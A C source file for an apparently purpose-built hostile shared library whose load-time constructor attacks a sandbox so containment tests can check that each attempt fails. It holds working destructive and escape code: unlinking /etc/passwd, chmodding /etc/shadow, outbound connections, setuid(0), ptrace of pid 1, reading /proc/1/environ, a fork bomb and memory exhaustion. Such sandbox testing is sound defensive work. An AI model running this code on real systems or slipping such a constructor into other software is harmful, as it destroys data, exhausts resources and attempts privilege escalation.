/*
 * A hostile shared library: its constructor, run by dlopen, attacks the load
 * sandbox it finds itself in. The sandbox tests (test/load/containment.test.ts)
 * dlopen it in a clean root filesystem and check that every attack fails, is
 * stopped by a limit, or stays inside the discarded scratch directory.
 *
 * HOSTILE (comma-separated, default HOSTILE_DEFAULT: "writes,net,escape"
 * unless built with -DHOSTILE_DEFAULT=...) picks the attacks:
 *   writes    create, rename, unlink and chmod outside /scratch and /tmp
 *             (/etc, /, /usr/lib, /art, /probe), and the two allowed writes
 *   net       TCP to 127.0.0.1:$HOSTILE_PORT (a host listener), TCP to
 *             $HOSTILE_EXTERNAL (ip:port, default 1.1.1.1:80), and the abstract
 *             unix socket $HOSTILE_ABSTRACT (a host listener) when set
 *   escape    remount / read-write, mount a tmpfs, setuid(0), setgid(0),
 *             unshare(CLONE_NEWUSER), unshare(CLONE_NEWNS), chroot, ptrace pid 1,
 *             read /proc/1/environ, and write through /proc/1/root
 *   daemon    a setsid'ed grandchild that execs `sleep 1000` (must not outlive the run)
 *   forkbomb  every process forks without end; the first refusal is reported
 *             and the constructor returns (leaving the bomb running)
 *   alloc     maps and touches $HOSTILE_ALLOC_MB MiB (default 10240), 64 MiB at a time
 *   spin      a busy loop that never ends
 *   segv      a null pointer write;  bus: a read past the end of a mapped file
 *
 * Every attempt prints one line to stderr:
 *   hostile: <attack> <target>: SUCCEEDED      (or the errno text)
 * so the tests read what happened, not only that the process survived.
 */
#define _GNU_SOURCE
/* The attacks when HOSTILE is unset: builds for loaders whose environment is fixed (the load runner) choose theirs here. */
#ifndef HOSTILE_DEFAULT
#define HOSTILE_DEFAULT "writes,net,escape"
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <stddef.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static void report(const char *attack, const char *target, int rc) {
  dprintf(2, "hostile: %s %s: %s\n", attack, target, rc == 0 ? "SUCCEEDED" : strerror(errno));
}

static int write_file(const char *path) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return -1;
  ssize_t n = write(fd, "pwned\n", 6);
  close(fd);
  return n == 6 ? 0 : -1;
}

static void attack_writes(void) {
  static const char *targets[] = {"/etc/pwned", "/pwned", "/usr/lib/pwned", "/art/pwned", "/probe/pwned", "/scratch/../pwned", "/proc/self/root/etc/pwned", "/scratch/allowed", "/tmp/allowed"};
  for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) report("write", targets[i], write_file(targets[i]));
  report("mkdir", "/var/pwned", mkdir("/var/pwned", 0755));
  report("rename", "/etc/hostname", rename("/etc/hostname", "/etc/hostname.pwned"));
  report("unlink", "/etc/passwd", unlink("/etc/passwd"));
  report("chmod", "/etc/shadow", chmod("/etc/shadow", 0666));
  report("symlink", "/usr/bin/pwned", symlink("/scratch/allowed", "/usr/bin/pwned"));
}

/* A non-blocking connect with a 2 s limit, so a sandbox that let the packet out cannot hang the test. */
static int connect_within(int fd, const struct sockaddr *sa, socklen_t len) {
  fcntl(fd, F_SETFL, O_NONBLOCK);
  if (connect(fd, sa, len) == 0) return 0;
  if (errno != EINPROGRESS) return -1;
  struct pollfd p = {.fd = fd, .events = POLLOUT};
  if (poll(&p, 1, 2000) <= 0) {
    errno = ETIMEDOUT;
    return -1;
  }
  int err = 0;
  socklen_t el = sizeof err;
  getsockopt(fd, SOL_SOCKET, SO_ERROR, &err, &el);
  errno = err;
  return err == 0 ? 0 : -1;
}

static void tcp(const char *label, const char *ip, int port) {
  struct sockaddr_in sa = {.sin_family = AF_INET, .sin_port = htons(port)};
  inet_pton(AF_INET, ip, &sa.sin_addr);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  char target[64];
  snprintf(target, sizeof target, "%s:%d", ip, port);
  if (fd < 0) {
    report(label, target, -1);
    return;
  }
  int rc = connect_within(fd, (struct sockaddr *)&sa, sizeof sa);
  if (rc == 0) (void)!write(fd, "pwned\n", 6);
  report(label, target, rc);
  close(fd);
}

static void attack_net(void) {
  const char *port = getenv("HOSTILE_PORT");
  if (port) tcp("connect-host", "127.0.0.1", atoi(port));
  const char *ext = getenv("HOSTILE_EXTERNAL");
  char ip[64] = "1.1.1.1";
  int eport = 80;
  if (ext) sscanf(ext, "%63[^:]:%d", ip, &eport);
  tcp("connect-external", ip, eport);
  const char *abstract = getenv("HOSTILE_ABSTRACT");
  if (abstract) {
    struct sockaddr_un su = {.sun_family = AF_UNIX};
    size_t n = strlen(abstract);
    if (n > sizeof su.sun_path - 1) n = sizeof su.sun_path - 1;
    memcpy(su.sun_path + 1, abstract, n); /* sun_path[0] = 0: the abstract namespace */
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    int rc = fd < 0 ? -1 : connect(fd, (struct sockaddr *)&su, (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n));
    report("connect-abstract", abstract, rc);
    if (fd >= 0) close(fd);
  }
}

static void attack_escape(void) {
  report("remount-rw", "/", mount(NULL, "/", NULL, MS_REMOUNT | MS_BIND, NULL));
  report("remount-rw-plain", "/", mount(NULL, "/", NULL, MS_REMOUNT, NULL));
  report("mount-tmpfs", "/etc", mount("none", "/etc", "tmpfs", 0, NULL));
  report("setuid", "0", setuid(0));
  report("setgid", "0", setgid(0));
  report("unshare", "CLONE_NEWUSER", unshare(CLONE_NEWUSER));
  report("unshare", "CLONE_NEWNS", unshare(CLONE_NEWNS));
  report("chroot", "/scratch", chroot("/scratch"));
  report("ptrace-attach", "1", ptrace(PTRACE_ATTACH, 1, NULL, NULL) == -1 ? -1 : 0);
  int fd = open("/proc/1/environ", O_RDONLY);
  if (fd < 0) {
    report("read", "/proc/1/environ", -1);
  } else {
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n < 0) {
      report("read", "/proc/1/environ", -1);
    } else {
      for (ssize_t i = 0; i < n; i++)
        if (buf[i] == 0) buf[i] = ' ';
      buf[n] = 0;
      dprintf(2, "hostile: read /proc/1/environ: SUCCEEDED (%zd bytes, the sandbox's own pid 1): %s\n", n, buf);
    }
  }
  report("write", "/proc/1/root/etc/pwned", write_file("/proc/1/root/etc/pwned"));
}

static void attack_daemon(void) {
  pid_t child = fork();
  if (child < 0) {
    report("fork", "daemon", -1);
    return;
  }
  if (child == 0) {
    setsid();
    if (fork() == 0) {
      execlp("sleep", "sleep", "1000", (char *)NULL);
      sleep(1000);
    }
    _exit(0);
  }
  int status;
  while (waitpid(child, &status, 0) < 0 && errno == EINTR) {}
  dprintf(2, "hostile: daemon sleep 1000: started\n");
}

static void attack_forkbomb(void) {
  long forks = 0;
  for (;;) {
    pid_t p = fork();
    if (p == 0) {
      for (;;) (void)fork(); /* every child bombs on, until the sandbox dies */
    }
    if (p < 0) {
      dprintf(2, "hostile: forkbomb fork-refused-after-%ld: %s\n", forks, strerror(errno));
      return;
    }
    if (++forks >= 100000) {
      dprintf(2, "hostile: forkbomb %ld-forks: SUCCEEDED (none refused)\n", forks);
      return;
    }
  }
}

static void attack_alloc(void) {
  const char *mb_env = getenv("HOSTILE_ALLOC_MB");
  long want = mb_env ? atol(mb_env) : 10240, got = 0;
  const size_t chunk = 64UL << 20;
  while (got < want) {
    char *p = mmap(NULL, chunk, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (p == MAP_FAILED) {
      dprintf(2, "hostile: alloc after-%ld-MiB: %s\n", got, strerror(errno));
      return;
    }
    memset(p, 0xa5, chunk);
    got += 64;
    if (got % 1024 == 0) dprintf(2, "hostile: alloc touched %ld MiB\n", got);
  }
  dprintf(2, "hostile: alloc %ld-MiB: SUCCEEDED\n", got);
}

static void attack_spin(void) {
  dprintf(2, "hostile: spin forever: started\n");
  for (volatile unsigned long i = 0;; i++) {}
}

static void attack_segv(void) {
  dprintf(2, "hostile: segv null-write: started\n");
  *(volatile int *)0 = 1;
}

static void attack_bus(void) {
  dprintf(2, "hostile: bus read-past-end: started\n");
  int fd = open("/scratch/bus", O_RDWR | O_CREAT | O_TRUNC, 0600);
  if (fd < 0) {
    report("bus", "/scratch/bus", -1);
    return;
  }
  volatile char *p = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, 0); /* the file is empty: the page has no backing */
  if (p == MAP_FAILED) {
    report("bus", "mmap", -1);
    return;
  }
  (void)p[0];
}

static const struct {
  const char *name;
  void (*run)(void);
} ATTACKS[] = {
    {"writes", attack_writes}, {"net", attack_net},   {"escape", attack_escape}, {"daemon", attack_daemon}, {"forkbomb", attack_forkbomb},
    {"alloc", attack_alloc},   {"spin", attack_spin}, {"segv", attack_segv},     {"bus", attack_bus},
};

__attribute__((constructor)) static void hostile(void) {
  const char *env = getenv("HOSTILE");
  char list[256];
  snprintf(list, sizeof list, "%s", env ? env : HOSTILE_DEFAULT);
  for (char *save = NULL, *name = strtok_r(list, ",", &save); name; name = strtok_r(NULL, ",", &save)) {
    size_t i = 0;
    while (i < sizeof ATTACKS / sizeof *ATTACKS && strcmp(ATTACKS[i].name, name) != 0) i++;
    if (i == sizeof ATTACKS / sizeof *ATTACKS) {
      dprintf(2, "hostile: unknown attack %s\n", name);
      continue;
    }
    ATTACKS[i].run();
  }
  dprintf(2, "hostile: done\n");
}
